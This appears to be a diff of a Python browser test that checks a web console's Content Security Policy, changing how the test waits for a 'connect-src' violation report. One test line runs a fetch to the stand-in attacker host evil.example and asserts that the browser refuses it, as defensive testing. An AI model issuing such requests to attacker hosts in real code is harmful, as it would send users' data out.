@@ -124,7 +124,7 @@ def test_no_page_of_another_site_frames_the_console(browser, server):
     context.close()
 
 
-def test_the_policy_holds_in_this_browser(tab):
+def test_the_policy_holds_in_this_browser(tab, until):
     """What an attacker would try if text became markup somewhere after all."""
     refused = tab.page.evaluate(
         """() => new Promise((resolve) => setTimeout(() => {
@@ -141,5 +141,5 @@ def test_the_policy_holds_in_this_browser(tab):
     assert refused == []
     tab.complaints.clear()
     assert tab.page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused"
-    assert any("connect-src" in text for text in tab.complaints)
+    until(lambda: tab.page.title() and any(text.startswith("CSP connect-src") for text in tab.complaints))
     tab.complaints.clear()
